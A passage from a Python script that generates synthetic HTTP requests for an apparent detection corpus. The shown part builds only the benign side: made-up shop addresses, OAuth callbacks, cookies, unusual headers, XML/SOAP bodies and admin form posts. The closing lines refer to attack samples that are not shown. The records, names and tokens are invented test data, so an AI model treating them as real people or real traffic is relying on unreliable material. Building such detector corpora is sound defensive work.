    {"name": "Ana Mar\u00eda de la Cruz y Ortega", "line1": "C/ de Al\u00ed Bey, 25, 3\u00ba 2\u00aa",
     "city": "Barcelona", "postcode": "08010", "country": "ES"},
    {"name": "Priya Raghunathan", "line1": "No. 4, 2nd Cross, Indiranagar", "city": "Bengaluru",
     "postcode": "560038", "country": "IN"},
    {"name": "T\u016b\u012b Ngata", "line1": "18 Te Mata Rd", "city": "Havelock North", "postcode": "4130",
     "country": "NZ"},
    {"name": "Mary-Kate O'Connor (c/o Smith & Sons)", "line1": "Unit 5 -- Dock Rd", "city": "Liverpool",
     "postcode": "L3 4AF", "country": "GB"},
]

OAUTH = [
    ("google", "/auth/callback/google"),
    ("apple", "/auth/callback/apple"),
    ("microsoft", "/auth/callback/microsoft"),
    ("facebook", "/auth/callback/facebook"),
    ("authorize", "/oauth/authorize"),
    ("error", "/auth/callback/google"),
    ("google", "/auth/callback/google?from=checkout"),
    ("apple", "/auth/callback/apple"),
    ("authorize", "/oauth/authorize"),
    ("microsoft", "/auth/callback/microsoft"),
]

AVATARS = ["Me on the beach", "Profile photo", "", "logo for my shop account", "\u6211\u7684\u5934\u50cf",
           "cat \U0001F408 (it's Mochi)"]

COOKIE_PAGES = ["/", "/p/linen-shirt-sage", "/search?q=kettle&sort=price:asc", "/cart", "/checkout/shipping",
                "/account/orders", "/c/kitchen/cookware?page=2", "/gift-cards", "/help/returns",
                "/p/cast-iron-skillet-30?variant=2", "/sale", "/stores/berlin-mitte"]

HEADER_VALUES = [
    ("Accept-Language", "zh-Hant-TW,zh-Hant;q=0.9,zh;q=0.8,en-US;q=0.7,en;q=0.6"),
    ("Accept-Language", "sr-Latn-RS,sr;q=0.9,hr;q=0.7,*;q=0.1"),
    ("Accept-Language", "gsw-CH, de-CH;q=0.8, de;q=0.7, fr-CH;q=0.4"),
    ("X-Locale", "es-419"),
    ("X-Timezone", "America/Argentina/Buenos_Aires"),
    ("X-Search", "rock 'n' roll vinyl (1950s-60s)"),
    ("Forwarded", 'for="[2001:db8:cafe::17]:4711";proto=https;by=10.20.0.4'),
    ("Prefer", "return=minimal, handling=lenient, wait=10"),
    ("Accept", "application/vnd.shop.v2+json;q=1.0, application/problem+json;q=0.9, */*;q=0.1"),
    ("If-Match", '"a1f3c9e2", W/"0815-beta"'),
    ("Range", "bytes=0-1023, 4096-8191, -512"),
    ("X-Device-Model", "SM-S928B (Galaxy S24 Ultra); One UI 6.1"),
    ("Sec-CH-UA-Full-Version-List", '"Chromium";v="131.0.6778.86", "Google Chrome";v="131.0.6778.86", '
                                    '"Not_A Brand";v="24.0.0.0"'),
    ("Cache-Control", "no-cache, no-store, max-age=0, must-revalidate"),
    ("X-Client-Version", "android/7.4.0-rc.2+build.98311 (flavor=play; abi=arm64-v8a)"),
    ("Via", "1.1 varnish (Varnish/7.5), 1.1 edge-fra-04.cdn.example"),
    ("X-Referral-Code", "ANNA-M\u00dcLLER-2026"),
]

XML_DOCS = [
    ("/soap/carrier", "text/xml; charset=utf-8", '"urn:parcelo:rates#GetRates"',
     '<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" '
     'xmlns:r="urn:parcelo:rates"><soap:Header><r:Auth><r:Account>SHOPEX-01</r:Account></r:Auth></soap:Header>'
     '<soap:Body><r:GetRates><r:From country="DE" postcode="04109"/><r:To country="AT" postcode="8010"/>'
     '<r:Parcel weightGrams="1840" lengthCm="35" widthCm="25" heightCm="12"/><r:Service>express</r:Service>'
     '</r:GetRates></soap:Body></soap:Envelope>'),
    ("/admin/seo/sitemap.xml", "application/xml", None,
     '<?xml version="1.0" encoding="UTF-8"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" '
     'xmlns:image="http://www.google.com/schemas/sitemap-image/1.1"><url><loc>https://shop.example/p/linen-shirt-sage'
     '</loc><lastmod>2026-12-01</lastmod><changefreq>weekly</changefreq><priority>0.8</priority><image:image>'
     '<image:loc>https://cdn.shop.example/p/ls-sage/front-1200.webp</image:loc></image:image></url><url><loc>'
     'https://shop.example/search?q=kettle&amp;sort=price:asc</loc><priority>0.3</priority></url></urlset>'),
    ("/webhooks/parcelo/xml", "application/xml", None,
     '<?xml version="1.0" encoding="UTF-8"?><TrackingUpdate version="2"><Shipment id="shp_5511870">'
     '<Reference>ord_48213</Reference><Event code="DLV" at="2026-12-14T13:48:00+01:00"><Location>Leipzig</Location>'
     '<Description>Delivered -- left in the porch as instructed ("behind the bin")</Description>'
     '<SignedBy>O\'SULLIVAN</SignedBy></Event></Shipment></TrackingUpdate>'),
    ("/soap/tax", "text/xml; charset=utf-8", '""',
     '<?xml version="1.0"?><env:Envelope xmlns:env="http://schemas.xmlsoap.org/soap/envelope/" '
     'xmlns:v="urn:eu:tax:vat:check"><env:Body><v:checkVat><v:countryCode>DE</v:countryCode>'
     '<v:vatNumber>123456789</v:vatNumber></v:checkVat></env:Body></env:Envelope>'),
    ("/admin/feeds/products", "application/rss+xml", None,
     '<?xml version="1.0" encoding="UTF-8"?><rss version="2.0" xmlns:g="http://base.google.com/ns/1.0"><channel>'
     '<title>Shop Example feed</title><link>https://shop.example</link><item><g:id>KT-17-STEEL</g:id>'
     '<title>Kettle 1.7 L &#8211; brushed steel</title><g:price>59.90 EUR</g:price><g:availability>in stock'
     '</g:availability><description><![CDATA[Quiet & fast; <b>auto shut-off</b>.]]></description></item>'
     '</channel></rss>'),
    ("/api/v2/partners/invoices", "application/xml", None,
     '<?xml version="1.0" encoding="UTF-8"?><Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2" '
     'xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2"><cbc:ID>INV-2026-4471'
     '</cbc:ID><cbc:IssueDate>2026-12-02</cbc:IssueDate><cbc:Note>Payment within 14 days; 2% discount if paid '
     'within 7.</cbc:Note><cbc:DocumentCurrencyCode>EUR</cbc:DocumentCurrencyCode></Invoice>'),
    ("/api/v2/partners/orders", "application/xml", None,
     '<?xml version="1.0" encoding="UTF-8"?><order xmlns="urn:shop:erp:1" source="b2b-portal"><customer ref="C-4471">'
     'M&#252;ller &amp; S&#246;hne GmbH</customer><line sku="MS-CHR-M" qty="40"/><line sku="KT-17-STEEL" qty="6"/>'
     '<comment>Deliver to gate 3; forklift available 7-15h. Select "no invoice in parcel".</comment></order>'),
    ("/api/v2/partners/stock", "application/xml", None,
     '<?xml version="1.0" encoding="UTF-8"?><stockUpdate xmlns="urn:shop:erp:1"><warehouse>FRA-1</warehouse>'
     '<item sku="SH-42-BLK"><qty>0</qty><note>drop from web until restock (ETA wk 3)</note></item>'
     '<item sku="LS-SAGE-S"><qty>57</qty></item></stockUpdate>'),
    ("/webhooks/payments/legacy", "application/xml", None,
     '<?xml version="1.0" encoding="ISO-8859-1"?><notification><merchantRef>ord_48551</merchantRef><status>'
     'AUTHORISED</status><amount currency="EUR">4990</amount><shopperName>Ren&#233;e Dubois-Saint-Clair'
     '</shopperName><returnUrl>https://shop.example/checkout/done?ref=ord_48551&amp;lang=fr</returnUrl>'
     '</notification>'),
    ("/admin/blog/import", "application/atom+xml", None,
     '<?xml version="1.0" encoding="utf-8"?><entry xmlns="http://www.w3.org/2005/Atom"><title>How we pack '
     'without plastic</title><id>urn:uuid:1f0c2b7e-8a44-4d1e-9b1e-6c3a5d7e9f01</id><updated>2026-11-20T08:00:00Z'
     '</updated><content type="html">&lt;p&gt;Paper tape, recycled boxes &amp;amp; no bubble wrap.&lt;/p&gt;'
     '</content></entry>'),
]


def analytics_cookie(rng) -> str:
    """A shop page's cookies: session, analytics, consent, A/B flags, recently viewed."""
    ts = 1766500000 + rng.randint(0, 900000)
    consent = urllib.parse.quote(json.dumps({"v": 3, "ts": ts * 1000, "purposes": {
        "necessary": True, "analytics": rng.random() < 0.6, "marketing": rng.random() < 0.3},
        "vendors": ["shopmetrics", "mapsvc"]}, separators=(",", ":")))
    parts = [f"sid={rng.randbytes(20).hex()}", f"_ga=GA1.1.{rng.randint(10**8, 10**9)}.{ts}",
             f"consent={consent}", f"cart_count={rng.randint(0, 7)}"]
    optional = [
        f"_ga_S7K2Q9={'GS1.1.%d.%d.1.%d.0.0.0' % (ts, rng.randint(2, 60), ts + rng.randint(30, 900))}",
        f"_fbp=fb.1.{ts}{rng.randint(100, 999)}.{rng.randint(10**9, 10**10)}",
        "ab=" + urllib.parse.quote("pdp_gallery:v2|checkout_steps:one-page|search_rank:ltr-3"),
        "recently_viewed=" + "%2C".join(f"p_{rng.randint(1000, 29999)}" for _ in range(rng.randint(3, 9))),
        "utm=" + urllib.parse.quote("source=newsletter&medium=email&campaign=xmas-2026&content=hero"),
        f"device_session={g.b64url(rng.randbytes(33))}",
        "prefs=" + g.b64url(json.dumps({"currency": "EUR", "theme": rng.choice(["dark", "light"]),
                                        "sizes": {"shoe": "42", "shirt": "M"}}).encode()),
        f"__cf_bm={g.b64url(rng.randbytes(40))}-{ts}-1.0.1.1-{g.b64url(rng.randbytes(60))}",
        f"sp_id.4b1c={g.uuid4(rng)}.{ts}.{rng.randint(1, 30)}.{ts + 3600}.{ts - 86400}.{g.uuid4(rng)}",
        "store=st_berlin_mitte", "locale=de-DE",
        "tz=" + urllib.parse.quote("Europe/Berlin"),
    ]
    return "; ".join(parts + rng.sample(optional, rng.randint(4, len(optional))))


def b_app_search(rng, entry):
    q, flt, sort = entry
    params = [("q", q)]
    if flt:
        params.append(("filter", flt))
    if sort:
        params.append(("sort", sort))
    params.append(("limit", str(rng.choice([20, 24, 48]))))
    if rng.random() < 0.5:
        params.append(("cursor", g.b64url(json.dumps({"after": [round(rng.uniform(5, 200), 2),
                                                                f"p_{rng.randint(1000, 29999)}"],
                                                      "dir": "next"}, separators=(",", ":")).encode())))
    return g.request("GET", "/api/v2/products/search?" + urllib.parse.urlencode(params), client_headers(rng))


def b_spa_search(rng, text):
    uri = "/api/v2/search?" + urllib.parse.urlencode([("q", text), ("page", str(rng.randint(1, 3)))])
    return g.request("GET", uri, spa_headers(rng))


def b_cart(rng, entry):
    method, uri, doc = entry
    h = app_headers(rng) + [["Idempotency-Key", g.uuid4(rng)]]
    return g.request(method, uri, h + [["Content-Type", "application/json"]], json.dumps(doc, ensure_ascii=False))


def b_jwt(rng, path):
    return g.request("GET", path, client_headers(rng))


def b_graphql(rng, entry):
    name, query, variables = entry
    doc = {"operationName": name, "query": query, "variables": variables}
    if rng.random() < 0.3:
        doc["extensions"] = {"persistedQuery": {"version": 1,
                                                "sha256Hash": hashlib.sha256(query.encode()).hexdigest()}}
    return g.post_json("/graphql", client_headers(rng), doc)


def b_webhook(rng, entry):
    provider, doc = entry
    doc = dict(doc, id="evt_" + rng.randbytes(10).hex(), created=1767000000 + rng.randint(0, 900000))
    body = json.dumps(doc, ensure_ascii=False)
    return send_json("POST", f"/webhooks/{provider}", signed(provider, body, rng), body)


def b_admin_product(rng, entry):
    fields = [("_csrf", g.b64url(rng.randbytes(24))), ("_method", "PUT")] + list(entry.items()) + [
        ("tags", rng.choice(["new, bestseller", "sale", "kitchen, gift ideas", ""])),
        ("status", rng.choice(["active", "draft"])), ("save", "Save product")]
    return g.post_form(f"/admin/products/{rng.randint(1000, 9999)}/edit", admin_headers(rng), fields)


def b_admin_note(rng, text):
    fields = [("_csrf", g.b64url(rng.randbytes(24))), ("note", text),
              ("visibility", rng.choice(["staff", "staff", "pinned"])), ("notify", rng.choice(["", "ops@shop.example"]))]
    target = rng.choice([f"orders/ord_{rng.randint(40000, 59999)}", f"customers/{rng.randint(10000, 99999)}"])
    return g.post_form(f"/admin/{target}/notes", admin_headers(rng), fields)


def b_csv(rng, text):
    kind = rng.choice(["products", "inventory", "redirects", "customers"])
    if rng.random() < 0.5:
        return g.post_form("/admin/imports", admin_headers(rng),
                           [("_csrf", g.b64url(rng.randbytes(24))), ("type", kind), ("dry_run", "1"), ("csv", text)])
    h = admin_headers(rng) + [["Content-Type", "text/csv; charset=utf-8"], ["X-CSRF-Token", g.b64url(rng.randbytes(24))]]
    return g.request("POST", f"/admin/api/imports?type={kind}&dry_run=0", h, text)


def b_chat(rng, text):
    doc = {"conversationId": "cv_" + rng.randbytes(8).hex(),
           "message": {"type": "text", "text": text, "clientTs": 1767000000 + rng.randint(0, 900000)},
           "context": {"page": rng.choice(["/account/orders", "/help", "/cart", "/p/linen-shirt-sage"]),
                       "appVersion": rng.choice(CLIENT_VERSIONS)}}
    return g.post_json("/api/v2/support/messages", client_headers(rng), doc)


def b_review(rng, entry):
    rating, title, body = entry
    doc = {"productId": f"p_{rng.randint(1000, 29999)}", "rating": rating, "title": title, "body": body,
           "recommend": rating >= 4, "fit": rng.choice([None, "true_to_size", "runs_large", "runs_small"])}
    return g.post_json("/api/v2/reviews", client_headers(rng), doc)


def b_person(rng, entry):
    if rng.random() < 0.6:
        doc = dict(entry, label=rng.choice(["Home", "Work", "Parents"]), phone="+" + str(rng.randint(10**9, 10**11)),
                   default=rng.random() < 0.3)
        return g.post_json("/api/v2/addresses", app_headers(rng), doc)
    fields = [("_csrf", g.b64url(rng.randbytes(24)))] + [(k, v) for k, v in entry.items()] + [("next", "payment")]
    return g.post_form("/checkout/address", spa_headers(rng, accept="text/html,application/xhtml+xml,*/*;q=0.8"),
                       fields)


def b_oauth(rng, entry):
    kind, path = entry
    state = g.b64url(json.dumps({"n": rng.randbytes(8).hex(), "r": "/checkout"}, separators=(",", ":")).encode())
    h = spa_headers(rng, accept="text/html,application/xhtml+xml,*/*;q=0.8")
    sep = "&" if "?" in path else "?"
    if kind == "google":
        params = [("state", state), ("code", "4/0Ad" + g.b64url(rng.randbytes(54))),
                  ("scope", "email profile openid https://www.googleapis.com/auth/userinfo.email"),
                  ("authuser", "0"), ("prompt", "consent")]
        return g.request("GET", path + sep + urllib.parse.urlencode(params), h)
    if kind == "microsoft":
        params = [("code", "0.AXoA" + g.b64url(rng.randbytes(96))), ("state", state), ("session_state", g.uuid4(rng))]
        return g.request("GET", path + sep + urllib.parse.urlencode(params), h)
    if kind == "facebook":
        params = [("code", g.b64url(rng.randbytes(150))), ("state", state)]
        return g.request("GET", path + sep + urllib.parse.urlencode(params), h)
    if kind == "error":
        params = [("error", "access_denied"), ("error_description", "The user cancelled the login."), ("state", state)]
        return g.request("GET", path + sep + urllib.parse.urlencode(params), h)
    if kind == "authorize":
        params = [("response_type", "code"), ("client_id", "shop-web"),
                  ("redirect_uri", "https://shop.example/auth/callback/shop?next=%2Faccount%2Forders"),
                  ("scope", "openid profile email offline_access"), ("state", state),
                  ("code_challenge", g.b64url(hashlib.sha256(rng.randbytes(32)).digest())),
                  ("code_challenge_method", "S256"), ("nonce", g.b64url(rng.randbytes(16))), ("ui_locales", "de en")]
        return g.request("GET", path + sep + urllib.parse.urlencode(params), h)
    # Apple's form_post callback: code, id_token, state and (first login only) a JSON `user`.
    id_token = token(rng)
    user = json.dumps({"name": {"firstName": "Ma\u00eblle", "lastName": "L'H\u00e9ritier"},
                       "email": f"{rng.randbytes(5).hex()}@privaterelay.appleid.com"}, ensure_ascii=False)
    fields = [("state", state), ("code", "c" + rng.randbytes(16).hex() + ".0.r" + rng.randbytes(5).hex()),
              ("id_token", id_token), ("user", user)]
    h = set_header(h, "Origin", "https://appleid.apple.com")
    return g.post_form(path, set_header(h, "Referer", "https://appleid.apple.com/"), fields)


def b_avatar(rng, caption):
    doc = {"caption": caption, "image": g.image_data_url(rng), "crop": {"x": rng.randint(0, 40), "y": rng.randint(0, 40),
                                                                       "size": rng.choice([256, 512])}}
    return g.request("PUT", "/api/v2/me/avatar", app_headers(rng) + [["Content-Type", "application/json"]],
                     json.dumps(doc, ensure_ascii=False))


def b_cookie(rng, page):
    h = [["Host", HOST], ["User-Agent", rng.choice(BROWSER_UAS)],
         ["Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"],
         ["Accept-Language", rng.choice(LANGS)], ["Accept-Encoding", "gzip, deflate, br, zstd"],
         ["Cookie", analytics_cookie(rng)]]
    if rng.random() < 0.5:
        h.append(["Referer", rng.choice(["https://www.google.com/", "https://duckduckgo.com/",
                                         f"https://{HOST}/", "https://l.instagram.com/"])])
    return g.request("GET", page, h)


def b_header(rng, entry):
    name, value = entry
    h = set_header(client_headers(rng), name, value)
    uri = rng.choice(["/api/v2/me", "/api/v2/products?limit=24", "/api/v2/orders/ord_5521/invoice.pdf",
                      "/api/v2/home", "/api/v2/search?q=vinyl"])
    if name == "Range":
        uri = "/api/v2/orders/ord_5521/invoice.pdf"
    return g.request("GET", uri, h)


def b_xml(rng, entry):
    uri, ctype, action, body = entry
    h = [["Host", HOST], ["User-Agent", rng.choice(["ShopERP-Connector/3.2 (+https://erp.partner.example)",
                                                    "Parcelo-Webhooks/2.3", "Apache-HttpClient/4.5.14 (Java/17.0.9)"])],
         ["Accept", "application/xml, text/xml;q=0.9"], ["Content-Type", ctype]]
    if action is not None:
        h.append(["SOAPAction", action])
    if uri.startswith("/admin"):
        h.append(["Cookie", f"admin_session={g.b64url(rng.randbytes(30))}"])
    return g.request("POST", uri, h, body)


KINDS = [
    ("app_search", b_app_search, APP_SEARCHES), ("spa_search", b_spa_search, SPA_SEARCHES),
    ("cart_json", b_cart, CART_CALLS), ("jwt_api", b_jwt, JWT_PATHS), ("graphql", b_graphql, GRAPHQL),
    ("webhook", b_webhook, WEBHOOKS), ("admin_product", b_admin_product, ADMIN_PRODUCTS),
    ("admin_note", b_admin_note, ADMIN_NOTES), ("csv_import", b_csv, CSV_IMPORTS),
    ("support_chat", b_chat, SUPPORT_CHAT), ("review_json", b_review, REVIEWS), ("address", b_person, PEOPLE),
    ("oauth_callback", b_oauth, OAUTH), ("avatar_upload", b_avatar, AVATARS),
    ("analytics_cookie", b_cookie, COOKIE_PAGES), ("header_value", b_header, HEADER_VALUES), ("xml", b_xml, XML_DOCS),
]


def benign():
    return g.built_benign("eighth-", KINDS, g.Source(SEED))


if __name__ == "__main__":
    g.corpus_main(attacks, benign, ATTACKS, PLACEMENTS)
